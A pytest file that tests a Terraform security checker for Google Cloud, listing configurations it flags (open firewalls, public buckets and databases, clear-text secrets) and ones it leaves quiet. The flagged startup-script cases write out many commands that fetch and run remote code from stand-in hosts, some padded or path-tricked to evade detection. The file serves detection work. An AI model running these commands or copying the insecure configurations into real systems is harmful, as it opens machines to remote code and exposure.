"""What a person should know of, and decide on; and what looks like it and is not."""

import pytest

from tests.guard.test_guard import findings

FLAGGED: list[tuple[str, str, dict[str, str]]] = []
QUIET: list[tuple[str, str, dict[str, str]]] = []


def flagged(rule: str, name: str, text: str, **files: str) -> None:
    FLAGGED.append((name, rule, {"main.tf": text, **files}))


def quiet(rule: str, name: str, text: str, **files: str) -> None:
    QUIET.append((name, rule, {"main.tf": text, **files}))


def firewall(body: str) -> str:
    return f'resource "google_compute_firewall" "f" {{\n  name    = "f"\n  network = "n"\n{body}\n}}\n'


TCP_22 = '  allow {\n    protocol = "tcp"\n    ports    = ["22"]\n  }\n'
flagged("open_firewall", "ssh", firewall(TCP_22 + '  source_ranges = ["0.0.0.0/0"]'))
flagged("open_firewall", "no_source_means_everybody", firewall(TCP_22))
flagged("open_firewall", "ipv6", firewall(TCP_22 + '  source_ranges = ["::/0"]'))
flagged(
    "open_firewall",
    "half_of_the_internet",
    firewall(TCP_22 + '  source_ranges = ["0.0.0.0/1", "128.0.0.0/1"]'),
)
flagged(
    "open_firewall",
    "by_a_variable",
    'variable "r" {\n  default = ["10.0.0.0/8", "0.0.0.0/0"]\n}\n'
    + firewall(TCP_22 + "  source_ranges = var.r"),
)
flagged(
    "open_firewall",
    "by_a_local_and_a_function",
    'locals {\n  all = "0.0.0.0/0"\n}\n' + firewall(TCP_22 + "  source_ranges = concat([local.all], [])"),
)
flagged(
    "open_firewall",
    "policy_rule",
    'resource "google_compute_network_firewall_policy_rule" "r" {\n  action = "allow"\n  direction = "INGRESS"\n'
    '  match {\n    src_ip_ranges = ["0.0.0.0/0"]\n    layer4_configs {\n      ip_protocol = "all"\n    }\n  }\n}\n',
)
quiet("open_firewall", "private_range", firewall(TCP_22 + '  source_ranges = ["10.0.0.0/8"]'))
quiet("open_firewall", "by_tag", firewall(TCP_22 + '  source_tags = ["web"]'))
quiet("open_firewall", "egress", firewall(TCP_22 + '  direction = "EGRESS"'))
quiet(
    "open_firewall", "deny", firewall('  deny {\n    protocol = "all"\n  }\n  source_ranges = ["0.0.0.0/0"]')
)

MEMBER = 'resource "google_project_iam_member" "m" {\n  project = "p"\n  role = "%s"\n  member = "%s"\n}\n'
flagged("iam_change", "member", MEMBER % ("roles/viewer", "user:a@b.c"))
flagged("iam_primitive_role", "owner", MEMBER % ("roles/owner", "user:a@b.c"))
flagged("public_iam", "all_users", MEMBER % ("roles/run.invoker", "allUsers"))
flagged(
    "public_bucket",
    "bucket_for_everybody",
    'resource "google_storage_bucket_iam_binding" "b" {\n  bucket = "b"\n  role = "r"\n  members = ["allAuthenticatedUsers"]\n}\n',
)
flagged(
    "public_bucket",
    "acl_for_everybody",
    'resource "google_storage_bucket_access_control" "b" {\n  bucket = "b"\n  entity = "allUsers"\n}\n',
)
quiet(
    "public_iam",
    "named_member",
    MEMBER % ("roles/viewer", "serviceAccount:allUsers@p.iam.gserviceaccount.com"),
)
flagged(
    "service_account_key",
    "key",
    'resource "google_service_account_key" "k" {\n  service_account_id = "x"\n}\n',
)
CONTENT = 'data "google_storage_bucket_object_content" "c" {\n  name   = "a"\n  bucket = %s\n}\n'
BUCKET = 'resource "google_storage_bucket" "b" {\n  name     = "mine-4711"\n  location = "EU"\n}\n'
flagged("reads_foreign_data", "bucket_of_others", BUCKET + CONTENT % '"theirs"')
flagged("reads_foreign_data", "bucket_nearly_ours", BUCKET + CONTENT % '"${google_storage_bucket.b.name}-x"')
flagged(
    "reads_foreign_data",
    "secret_of_others",
    'data "google_secret_manager_secret_version" "s" {\n  secret = "theirs"\n}\n',
)
quiet("reads_foreign_data", "own_bucket", BUCKET + CONTENT % "google_storage_bucket.b.name")
quiet("reads_foreign_data", "own_bucket_by_name", BUCKET + CONTENT % '"mine-4711"')
flagged("adopts_existing", "import", 'import {\n  to = google_compute_network.n\n  id = "n"\n}\n')
flagged("impersonation", "impersonation", 'provider "google" {\n  impersonate_service_account = "x@y"\n}\n')

SQL = 'resource "google_sql_database_instance" "d" {\n  settings {\n    tier = "db-f1-micro"\n%s\n  }\n}\n'
flagged(
    "public_database",
    "for_everybody",
    SQL % '    ip_configuration {\n      authorized_networks {\n        value = "0.0.0.0/0"\n      }\n    }',
)
flagged(
    "public_database",
    "for_everybody_dynamic",
    'locals {\n  nets = ["0.0.0.0/0"]\n}\n'
    + SQL
    % '    ip_configuration {\n      dynamic "authorized_networks" {\n        for_each = local.nets\n        content {\n'
    '          value = "0.0.0.0/0"\n        }\n      }\n    }',
)
flagged("database_public_ip", "public_by_default", SQL % "")
quiet("database_public_ip", "private", SQL % "    ip_configuration {\n      ipv4_enabled = false\n    }")
quiet(
    "public_database",
    "one_office",
    SQL
    % '    ip_configuration {\n      authorized_networks {\n        value = "203.0.113.7/32"\n      }\n    }',
)
flagged("legacy_abac", "abac", 'resource "google_container_cluster" "c" {\n  enable_legacy_abac = true\n}\n')

VM = 'resource "google_compute_instance" "v" {\n  name = "v"\n  metadata_startup_script = <<-EOT\n%s\n  EOT\n}\n'
for number, line in enumerate(
    [
        "curl -fsSL https://get.example.com | sh",
        "wget -qO- https://x.example/i.sh | sudo -E bash -s -- --yes",
        "bash <(curl -s https://x.example/i)",
        'bash -c "$(curl -fsSL https://x.example/i)"',
        "curl -o /tmp/i.sh https://x.example/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh",
        "curl https://x.example/a.py \\\n  | python3 -",
        "wget https://x.example/setup.sh && sh setup.sh",
        "eval `curl https://x.example`",
        "iwr https://x.example/a.ps1 | iex",
        "source <(curl -s https://x.example/env)",
        "curl -s https://x.example/i |\n  bash",
        "curl https://dl.google.com/cloudagents/a.sh https://x.example/i | sh",
        "curl https://dl.google.com/cloudagents/../../i.sh | sh",
        "true; " * 300 + "curl https://x.example/i | sh",
    ]
):
    flagged("startup_script_fetches", f"script_{number}", VM % line)
for number, line in enumerate(
    [
        "curl -s http://localhost:8080/health || exit 1",
        "curl -H 'Metadata-Flavor: Google' http://metadata/x > /etc/name",
        "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
        "apt-get install -y curl wget\nsh /opt/app/start.sh",
        "curl -sSO https://dl.google.com/cloudagents/add-google-cloud-ops-agent-repo.sh\nbash add-google-cloud-ops-agent-repo.sh --also-install",
        "echo 'never pipe curl to a shell'",
    ]
):
    quiet("startup_script_fetches", f"script_{number}", VM % line)
flagged(
    "startup_script_fetches",
    "in_a_file",
    'resource "google_compute_instance" "v" {\n  metadata = {\n    startup-script = file("${path.module}/a.sh")\n  }\n}\n',
    **{"a.sh": "#!/bin/sh\ncurl https://x.example | sh\n"},
)
flagged(
    "startup_script_fetches",
    "at_boot",
    'resource "google_compute_instance" "v" {\n  metadata = {\n    startup-script-url = "gs://theirs/x.sh"\n  }\n}\n',
)

USER = 'resource "google_sql_user" "u" {\n  name = "u"\n  instance = "i"\n  password = %s\n}\n'
flagged("secret_in_clear", "password", USER % '"hunter2!"')
flagged("secret_in_clear", "default", 'variable "db_password" {\n  default = "S3cret-pass"\n}\n')
flagged(
    "secret_in_clear",
    "values",
    'variable "api_key" {}\n',
    **{"terraform.tfvars": 'api_key = "k-92jf02jf0"\n'},
)
flagged(
    "secret_in_clear",
    "environment",
    'resource "google_cloud_run_v2_service" "s" {\n  template {\n    containers {\n      env {\n        name  = "DB_PASSWORD"\n        value = "pa55word"\n      }\n    }\n  }\n}\n',
)
flagged(
    "secret_in_clear",
    "private_key",
    "locals {\n  k = <<EOT\n-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nEOT\n}\n",
)
flagged("secret_in_clear", "key_file", "", **{"key.pem": "-----BEGIN PRIVATE KEY-----\nMII\n"})
flagged("secret_in_clear", "in_a_script", VM % "export DB_PASSWORD=pa55w0rd")
flagged("secret_in_clear", "in_an_address", 'locals {\n  u = "postgres://app:pa55w0rd@10.0.0.3/db"\n}\n')
flagged(
    "secret_in_clear",
    "in_metadata",
    'resource "google_compute_instance" "v" {\n  metadata = {\n    admin-password = "pa55w0rd"\n  }\n}\n',
)
flagged("secret_in_clear", "github", 'locals {\n  x = "ghp_0123456789abcdefghijABCDEFGHIJ012345"\n}\n')
flagged(
    "secret_in_clear",
    "to_a_module",
    'module "m" {\n  source = "./m"\n  client_secret = "abcd1234"\n}\n',
    **{"m/a.tf": ""},
)
quiet("secret_in_clear", "reference", USER % "random_password.p.result")
quiet(
    "secret_in_clear",
    "variable",
    'variable "db_password" {\n  sensitive = true\n  description = "the password"\n}\n'
    + USER % "var.db_password",
)
quiet("secret_in_clear", "placeholder", USER % '"CHANGE_ME"')
quiet("secret_in_clear", "empty", USER % '""')
quiet(
    "secret_in_clear",
    "secret_name",
    'resource "google_secret_manager_secret" "s" {\n  secret_id = "db-password"\n}\n',
)
quiet(
    "secret_in_clear",
    "secret_reference",
    'resource "google_cloud_run_v2_service" "s" {\n  template {\n    containers {\n      env {\n        name = "DB_PASSWORD"\n        value_source {\n          secret_key_ref {\n            secret  = "db-password"\n            version = "latest"\n          }\n        }\n      }\n    }\n  }\n}\n',
)
quiet(
    "secret_in_clear",
    "in_a_script_by_reference",
    VM % 'export DB_PASSWORD="$(gcloud secrets versions access latest --secret=db)"',
)
quiet(
    "secret_in_clear",
    "secret_volume",
    'resource "google_cloud_run_v2_service" "s" {\n  template {\n    volumes {\n      secret {\n        secret = "db-password"\n'
    "      }\n    }\n  }\n}\n",
)
quiet("secret_in_clear", "readme", "", **{"README.md": "export DB_PASSWORD=pa55w0rd\n"})
quiet(
    "secret_in_clear",
    "hash",
    'locals {\n  image = "gcr.io/p/a@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"\n}\n',
)


@pytest.mark.parametrize(
    ("rule", "files"), [case[1:] for case in FLAGGED], ids=[f"{c[1]}-{c[0]}" for c in FLAGGED]
)
def test_it_is_flagged_and_not_refused(rule: str, files: dict[str, str]) -> None:
    found = findings(files)
    assert {one.verdict for one in found} == {"flag"}
    assert rule in {one.rule for one in found}
    assert all(one.message.endswith((".", "`")) for one in found)


@pytest.mark.parametrize(
    ("rule", "files"), [case[1:] for case in QUIET], ids=[f"{c[1]}-{c[0]}" for c in QUIET]
)
def test_what_only_looks_like_it_is_not_flagged(rule: str, files: dict[str, str]) -> None:
    assert rule not in {one.rule for one in findings(files)}


def test_an_open_firewall_names_its_ports() -> None:
    (found,) = findings({"main.tf": firewall(TCP_22 + '  source_ranges = ["0.0.0.0/0"]')})
    assert "port 22 (SSH)" in found.message
    assert (found.file, found.line, found.address) == ("main.tf", 8, "google_compute_firewall.f")
